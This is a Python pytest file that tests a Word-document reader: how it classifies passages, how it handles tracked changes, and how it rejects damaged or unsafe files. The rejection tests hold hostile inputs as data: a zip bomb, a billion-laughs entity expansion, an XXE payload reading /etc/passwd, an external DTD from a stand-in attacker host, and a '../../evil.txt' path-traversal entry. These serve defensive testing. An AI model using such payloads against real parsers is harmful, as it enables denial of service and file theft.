from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import datetime

import pytest
from made_files import docx as made
from made_files import paragraph

from comity.documents import Document, Failure

SENTENCE = "Norway and Finland will build a railway across the fells, their ministers said."


def passages(document: Document) -> list[tuple[str, str, str]]:
    return [(p.kind, p.reason, document.text[p.start : p.end]) for p in document.passages]


def written() -> bytes:
    import docx

    document = docx.Document()
    document.core_properties.author = "Kari Lund"
    document.core_properties.title = "Rails over the fells"
    document.core_properties.created = datetime(2021, 5, 4)
    document.sections[0].header.paragraphs[0].text = "Northern Papers"
    document.add_heading("Rails over the fells", 0)
    document.add_paragraph(SENTENCE)
    document.add_heading("Who pays", 1)
    document.add_paragraph("Sweden has not answered.")
    document.add_paragraph("Norway pays for the bridges.", style="List Bullet")
    document.add_paragraph("The fells in May", style="Caption")
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(table._cells, ("year", "km", "2021", "0"), strict=True):
        cell.text = text
    layout = document.add_table(rows=1, cols=1)
    layout.cell(0, 0).text = SENTENCE.replace("Norway", "Denmark")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_each_part_of_a_word_file_is_of_its_kind(document: Callable[..., Document]) -> None:
    read = document("a.docx", written())
    assert passages(read) == [
        ("label", "title", "Rails over the fells"),
        ("prose", "prose", SENTENCE),
        ("label", "heading", "Who pays"),
        ("prose", "prose", "Sweden has not answered."),
        ("prose", "list", "Norway pays for the bridges."),
        ("label", "caption", "The fells in May"),
        ("furniture", "table", "year | km"),
        ("furniture", "table", "2021 | 0"),
        ("prose", "prose", SENTENCE.replace("Norway", "Denmark")),
        ("furniture", "head or foot of the printed page", "Northern Papers"),
    ]
    assert (read.title, read.author, read.published_basis) == ("Rails over the fells", "Kari Lund", "metadata")
    assert read.problems == ("the date of publication is from the file's properties (created) only",)


def test_tracked_changes_read_as_accepted_and_boxes_are_read(document: Callable[..., Document]) -> None:
    body = (
        "<w:p><w:r><w:t>Norway </w:t></w:r><w:del><w:r><w:delText>never </w:delText><w:t>never </w:t></w:r></w:del>"
        "<w:ins><w:r><w:t>signed </w:t></w:r></w:ins><w:r><w:t>the plan on Monday.</w:t></w:r></w:p>"
        f"<w:sdt><w:sdtContent>{paragraph('Finland signed it on Tuesday.')}</w:sdtContent></w:sdt>"
        "<w:p><w:r><w:instrText>HYPERLINK x</w:instrText></w:r><w:r><w:t>One line</w:t><w:br/><w:t>and the next.</w:t></w:r></w:p>"
    )
    assert (
        document("a.docx", made(body)).text
        == "Norway signed the plan on Monday.\n\nFinland signed it on Tuesday.\n\nOne line\n\nand the next."
    )


def test_a_zip_bomb_is_refused_before_it_is_opened(failure: Callable[..., Failure]) -> None:
    bomb = made(paragraph(SENTENCE), extra={"word/media/image1.bin": b"\0" * 30_000_000})
    assert len(bomb) < 100_000
    found = failure("a.docx", bomb)
    assert (found.reason, (found.detail or "")[:21]) == ("unsafe archive", "a part would unpack t")
    assert failure("b.docx", bomb, max_ratio=10**9, max_unpacked_bytes=20_000_000).reason == "unsafe archive"
    many = made(paragraph(SENTENCE), extra={f"word/x{i}.bin": b"" for i in range(200)})
    assert failure("c.docx", many, max_members=100).reason == "unsafe archive"


@pytest.mark.parametrize(
    "before",
    [
        '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    ],
)
def test_xml_entities_are_refused(failure: Callable[..., Failure], before: str) -> None:
    assert failure("a.docx", made(paragraph("&c;&e;"), before=before)).reason == "unsafe XML"


def test_a_password_the_old_format_and_other_archives_are_told_apart(failure: Callable[..., Failure]) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("../../evil.txt", "words")
    reasons = {
        "password": failure("a.docx", ole + "EncryptedPackage".encode("utf-16-le")).reason,
        "old": failure("b.docx", ole).reason,
        "other": failure("c.docx", other.getvalue()).reason,
        "cut": failure("d.docx", written()[:9_000]).reason,
        "text": failure("e.docx", b"words").reason,
        "empty": failure("f.docx", b"").reason,
        "wordless": failure("g.docx", made("<w:p/>")).reason,
    }
    assert reasons == {
        "password": "needs a password",
        "old": "not a Word document",
        "other": "not a Word document",
        "cut": "damaged",
        "text": "not a Word document",
        "empty": "empty",
        "wordless": "no text",
    }
